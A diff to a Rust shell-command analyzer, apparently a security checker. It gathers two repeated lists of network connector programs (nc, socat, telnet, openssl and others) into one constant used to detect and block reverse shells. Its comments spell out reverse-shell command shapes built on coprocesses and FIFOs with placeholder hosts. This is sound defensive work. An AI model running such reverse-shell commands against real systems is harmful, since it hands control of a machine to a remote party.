@@ -3,6 +3,11 @@
 
 use super::*;
 
+/// Programs that connect this machine's standard streams to another one.
+const CONNECTORS: &[&str] = &[
+    "nc", "ncat", "netcat", "socat", "telnet", "openssl", "cryptcat", "websocat",
+];
+
 impl Analyzer<'_> {
     /// Pipes: a shell or interpreter reading its program from another
     /// command's output runs code nobody saw, whatever the source.
@@ -30,18 +35,9 @@ impl Analyzer<'_> {
         // `coproc N { nc host port; }; sh <&"${N[0]}"`: a shell reading its
         // commands from a descriptor, on a line that talks to the network.
         let connects = script.commands.iter().any(|x| {
-            peeled(&x.argv).first().is_some_and(|w| {
-                matches!(
-                    lower(&base_name(&w.text)).as_str(),
-                    "nc" | "ncat"
-                        | "netcat"
-                        | "socat"
-                        | "telnet"
-                        | "openssl"
-                        | "cryptcat"
-                        | "websocat"
-                )
-            })
+            peeled(&x.argv)
+                .first()
+                .is_some_and(|w| CONNECTORS.contains(&lower(&base_name(&w.text)).as_str()))
         });
         for c in &script.commands {
             let from_fd = c
@@ -99,16 +95,7 @@ impl Analyzer<'_> {
             // `sh < fifo | nc host port > fifo`: a shell whose output goes
             // to a connection is a shell handed to the other end.
             if let Some(kind) = stdin_executor(src)
-                && matches!(
-                    sink.as_str(),
-                    "nc" | "ncat"
-                        | "netcat"
-                        | "socat"
-                        | "telnet"
-                        | "openssl"
-                        | "cryptcat"
-                        | "websocat"
-                )
+                && CONNECTORS.contains(&sink.as_str())
             {
                 self.block(format!(
                     "remote shell ({kind} reading commands, its output sent through {sink})"
